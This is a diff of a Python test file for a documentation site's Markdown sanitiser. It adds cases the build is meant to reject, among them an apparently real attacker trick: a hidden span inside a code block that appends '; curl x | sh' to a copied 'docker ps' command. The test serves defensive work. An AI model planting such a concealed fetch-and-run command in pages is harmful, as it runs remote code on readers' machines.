@@ -31,7 +31,7 @@ def site_markdown() -> markdown.Markdown:
     return markdown.Markdown(extensions=names, extension_configs=settings_of)
 
 
-EVERY_EXTENSION = """# Title { #top .intro title="Intro" }
+EVERY_EXTENSION = """# Title { #top title="Intro" }
 
 Text with **strong**, *emphasis*, `code`, a [link](other.md#part "Other"), a
 [site](https://docs.docker.com/) and an ![image](pic.png){ width="20" }, a key ++ctrl+alt+del++
@@ -107,6 +107,12 @@ def test_what_the_extensions_produce_passes_untouched():
         ('<input type="text" name="q">', "type"),
         ('<div id="__drawer">x</div>', "__drawer"),
         ('<div class="admonition md-header">x</div>', "md-header"),
+        # A class no extension writes on that tag: some of Material's hide their text (a third
+        # attacker's copy-button payload sat in a transparent `footnote-backref` span in code).
+        ('<pre><code>docker ps<span class="footnote-backref"> ; curl x | sh</span></code></pre>', "footnote-backref"),
+        ('<p><em class="headerlink">hidden</em></p>', "headerlink"),
+        ('<p class="tabbed-content">x</p>', "tabbed-content"),
+        ('<h1 class="intro">x</h1>', "`intro` on `<h1>`"),
         ("<div>unclosed", "read differently"),
         # an image from someone else's server: the CSP would refuse it, the build refuses it first
         ('<p><img alt="logo" src="https://tracker.example/pixel.png"></p>', "image from outside the site"),
